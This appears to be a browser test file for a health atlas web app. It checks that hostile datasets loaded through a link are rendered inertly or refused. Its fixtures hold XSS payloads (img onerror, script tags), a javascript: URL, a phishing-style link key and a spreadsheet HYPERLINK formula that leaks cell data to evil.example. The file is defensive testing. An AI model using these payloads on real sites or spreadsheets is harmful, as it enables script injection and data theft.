// Loading another dataset with ?src=: success replaces the events; any failure keeps the
// embedded dataset and says what went wrong. Hostile text stays text. And the attacks of a
// crafted link (issue #16): data: and other-origin sources refused (unless the site lists
// them), a notice naming where shown events come from, link keys never echoed, CSV cells
// that a spreadsheet would run as formulas guarded.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import { join, resolve } from "node:path";
import { useServedAtlas, watchForErrors } from "./support.mjs";

const source = { file: "override.txt", language: "en", quote: "Quoted." };
const goodDataset = {
  schema_version: 1,
  events: [
    {
      id: "hostile-title",
      title: { en: "<img src=x onerror=\"window.__pwned=1\">Hostile", zh: "<script>window.__pwned=1</script>" },
      category: "forum",
      start: "2020-01-02",
      precision: "exact",
      sources: [{ ...source, quote: "<img src=x onerror=\"window.__pwned=1\">" }],
    },
    {
      id: "second",
      title: { en: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" },
      category: "launch",
      start: "2021-03-04",
      precision: "exact",
      sources: [{ ...source, title: "Official notice", url: "https://news.example.org/notice/1" }],
    },
  ],
};
const badDataset = {
  schema_version: 1,
  events: [
    { id: "a", title: { en: "A" }, category: "meeting", start: "2020-01-02", precision: "exact", sources: [source] },
    { id: "b", title: { en: "B" }, category: "forum", start: "2020-01-02", precision: "exact", places: [{ name: { en: "X" }, country: "CN", lat: 95.2, lon: 0, precision: "city" }], sources: [source] },
    { id: "c", title: { en: "C" }, category: "forum", start: "2020-01-02", precision: "exact", sources: [{ ...source, url: "javascript:alert(1)" }] },
  ],
};

const extraFiles = {
  "/fixtures/good.json": JSON.stringify(goodDataset),
  "/fixtures/bad.json": JSON.stringify(badDataset),
};
// CORS on every file, so that only the page's own rules decide what another origin may load.
const atlas = useServedAtlas({ extraFiles, headers: { "access-control-allow-origin": "*" } });

/** The same server under another origin: `localhost` instead of `127.0.0.1`. */
const otherOrigin = () => atlas.server.url.replace("127.0.0.1", "localhost");

/** The app's page with `<meta name="health-atlas-sources">` listing `origins`, served at `path`. */
// Served beside index.html (at the build's root), as its relative URLs expect.
async function trustingPage(path, origins) {
  const dist = resolve(process.env.E2E_DIST ?? resolve(import.meta.dirname, "../../dist"));
  const index = await readFile(join(dist, "index.html"), "utf8");
  extraFiles[path] = index.replace("<head>", `<head><meta name="health-atlas-sources" content="${origins}">`);
}

async function embeddedRowCount(page) {
  return page.locator(".ha-table tbody tr").count();
}

test("a valid src= dataset replaces the embedded one, rendering hostile text as text", async () => {
  const page = await atlas.browser.newPage({ locale: "en-US" });
  const errors = watchForErrors(page);
  await page.goto(`${atlas.server.url}?src=/fixtures/good.json`);
  await page.locator(".ha-dataset-summary", { hasText: "2 events, 2020–2021" }).waitFor();
  const title = page.locator("tr[data-event-id='hostile-title'] button");
  assert.equal(await title.textContent(), "<img src=x onerror=\"window.__pwned=1\">Hostile");
  await title.click();
  await page.locator(".ha-card").waitFor();
  assert.equal(await page.locator(".ha-card .ha-quote").textContent(), "<img src=x onerror=\"window.__pwned=1\">");
  assert.equal(await page.locator(".ha-card img").count(), 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(errors, []);
  await page.close();
});

test("an invalid src= dataset lists its errors and keeps the embedded events", async () => {
  const page = await atlas.browser.newPage({ locale: "en-US" });
  await page.goto(`${atlas.server.url}?src=/fixtures/bad.json`);
  const alert = page.locator(".ha-alert");
  await alert.waitFor();
  const message = await alert.textContent();
  assert.match(message, /events\[0\]\.category: unknown variant `meeting`/);
  assert.match(message, /events\[2\]\.sources\[0\]\.url: "javascript:alert\(1\)" is not an http\(s\) URL/);
  assert.match(message, /Showing the built-in dataset instead/);
  assert.ok((await embeddedRowCount(page)) >= 10);
  await page.close();
});

test("a refused file's problems come from the later module, located, in the reader's language", async () => {
  // The first render reads with the fast reader alone; the located list is the later module's.
  const page = await atlas.browser.newPage({ locale: "zh-CN" });
  const later = [];
  page.on("request", (request) => {
    if (/\/later-[0-9a-f]+(_bg\.wasm|\.js)$/.test(request.url())) later.push(request.url());
  });
  await page.goto(`${atlas.server.url}?src=/fixtures/bad.json`);
  const alert = page.locator(".ha-alert");
  await alert.waitFor();
  const message = await alert.textContent();
  assert.match(message, /events\[2\]\.sources\[0\]\.url: "javascript:alert\(1\)" 不是 http\(s\) 网址/);
  assert.ok(later.length >= 2, `the later module was fetched: ${later}`);
  await page.close();
});

test("a valid file does not fetch the later module", async () => {
  const page = await atlas.browser.newPage({ locale: "en-US" });
  const later = [];
  page.on("request", (request) => {
    if (/\/later-/.test(request.url())) later.push(request.url());
  });
  await page.goto(`${atlas.server.url}?src=/fixtures/good.json`);
  await page.locator(".ha-dataset-summary", { hasText: "2 events, 2020–2021" }).waitFor();
  await page.waitForTimeout(300);
  assert.deepEqual(later, []);
  await page.close();
});

test("when the later module cannot load, a refused file still says it was refused and why the list is missing", async () => {
  const page = await atlas.browser.newPage({ locale: "fr-FR" });
  await page.route(/\/later-[0-9a-f]+\.js$/, (route) => route.abort());
  await page.goto(`${atlas.server.url}?src=/fixtures/bad.json`);
  const alert = page.locator(".ha-alert");
  await alert.waitFor();
  assert.match(await alert.textContent(), /ne passe pas les contrôles, et la liste de ses problèmes n'a pas pu être chargée/);
  assert.ok((await embeddedRowCount(page)) >= 10);
  await page.close();
});

test("a src= that cannot be fetched says so and keeps the embedded events", async () => {
  const page = await atlas.browser.newPage({ locale: "en-US" });
  await page.goto(`${atlas.server.url}?src=/fixtures/missing.json`);
  const alert = page.locator(".ha-alert");
  await alert.waitFor();
  assert.match(await alert.textContent(), /missing\.json.*the server answered 404/);
  assert.ok((await embeddedRowCount(page)) >= 10);
  await page.close();
});

test("a data: src from a link is refused, in the reader's language, and the built-in events stay", async () => {
  const page = await atlas.browser.newPage({ locale: "zh-CN" });
  const errors = watchForErrors(page);
  const inline = `data:application/json,${encodeURIComponent(JSON.stringify(goodDataset))}`;
  await page.goto(`${atlas.server.url}?src=${encodeURIComponent(inline)}#v=1&event=hostile-title`);
  const alert = page.locator(".ha-alert");
  await alert.waitFor();
  assert.match(await alert.textContent(), /链接不能自带数据（data: 和 blob: 地址）/);
  assert.match(await alert.textContent(), /现显示内置数据集/);
  assert.ok((await embeddedRowCount(page)) >= 10);
  assert.equal(await page.locator("tr[data-event-id='hostile-title']").count(), 0);
  assert.equal(await page.locator(".ha-provenance").count(), 0);
  // The language switcher translates the refusal already on screen.
  await page.locator(".ha-lang select, select.ha-lang, header select").first().selectOption("fr");
  await page.locator(".ha-alert", { hasText: "un lien ne peut pas apporter ses propres données" }).waitFor();
  assert.deepEqual(errors, []);
  await page.close();
});

test("another origin's src is refused without the site's list, and its notice and hosts show with it", async () => {
  const other = `${otherOrigin()}fixtures/good.json`;
  const refusedPage = await atlas.browser.newPage({ locale: "en-US" });
  await refusedPage.goto(`${atlas.server.url}?src=${encodeURIComponent(other)}`);
  const alert = refusedPage.locator(".ha-alert");
  await alert.waitFor();
  const origin = otherOrigin().replace(/\/$/, "");
  assert.match(await alert.textContent(), new RegExp(`${origin.replace(/[.:/]/g, "\\$&")} is not one of this site's sources`));
  assert.ok((await embeddedRowCount(refusedPage)) >= 10);
  // A card's permalink does not carry the refused src on.
  await refusedPage.locator(".ha-table tbody tr button").first().click();
  const permalink = await refusedPage.locator(".ha-card .ha-permalink").getAttribute("href");
  assert.ok(!permalink.includes("src="), permalink);
  await refusedPage.close();

  await trustingPage("/trusting.html", `https://data.example.org ${origin}`);
  const page = await atlas.browser.newPage({ locale: "en-US" });
  const errors = watchForErrors(page);
  await page.goto(`${atlas.server.url}trusting.html?src=${encodeURIComponent(other)}`);
  await page.locator(".ha-dataset-summary", { hasText: "2 events, 2020–2021" }).waitFor();
  const host = new URL(origin).host;
  assert.equal(
    await page.locator(".ha-provenance").textContent(),
    `These events come from ${host}, not from this atlas's own dataset.`,
  );
  await page.locator("tr[data-event-id='second'] button").click();
  await page.locator(".ha-card").waitFor();
  assert.equal(await page.locator(".ha-card .ha-source-host").textContent(), "(news.example.org)");
  assert.deepEqual(errors, []);
  await page.close();
});

test("unknown link keys are counted, never echoed", async () => {
  const page = await atlas.browser.newPage({ locale: "en-US" });
  const crafted = encodeURIComponent("Your membership lapsed – call +44 20 7946 0000 now");
  await page.goto(`${atlas.server.url}#v=1&${crafted}=1&also=2&lang=${crafted}`);
  const notes = page.locator(".ha-link-notes");
  await notes.waitFor();
  const text = await notes.textContent();
  assert.match(text, /2 unrecognised link settings were ignored/);
  assert.ok(!text.includes("membership lapsed – call"), text);
  assert.ok(!text.includes("+44"), text);
  assert.match(text, /lang=Your membership lap…: unknown language/);
  await page.close();
});

test("the CSV export guards a title a spreadsheet would run as a formula", async () => {
  const context = await atlas.browser.newContext({ locale: "en-US", acceptDownloads: true });
  const page = await context.newPage();
  await page.goto(`${atlas.server.url}?src=/fixtures/good.json`);
  await page.locator(".ha-dataset-summary", { hasText: "2 events, 2020–2021" }).waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), page.locator("[data-export='csv']").click()]);
  const csv = await readFile(await download.path(), "utf8");
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), csv);
  assert.ok(!/(^|,)"?=HYPERLINK/m.test(csv), csv);
  await context.close();
});

test("a dataset past the byte cap is refused from its Content-Length, and the events stay", async () => {
  // A server that announces 200 MB (over the 128 MiB cap) and then sends almost nothing.
  const huge = createServer((request, response) => {
    response.writeHead(200, {
      "content-type": "application/json",
      "content-length": String(200 * 1024 * 1024),
      "access-control-allow-origin": "*",
    });
    response.write("{");
  });
  await new Promise((done) => huge.listen(0, "127.0.0.1", done));
  const origin = `http://127.0.0.1:${huge.address().port}`;
  try {
    await trustingPage("/trusting-huge.html", origin);
    const page = await atlas.browser.newPage({ locale: "fr-FR" });
    await page.goto(`${atlas.server.url}trusting-huge.html?src=${encodeURIComponent(`${origin}/huge.json`)}`);
    const alert = page.locator(".ha-alert");
    await alert.waitFor();
    assert.match(await alert.textContent(), /le fichier dépasse 128 Mo, le maximum que cette page lit/);
    assert.ok((await embeddedRowCount(page)) >= 10);
    await page.close();
  } finally {
    huge.closeAllConnections();
    await new Promise((done) => huge.close(done));
  }
});
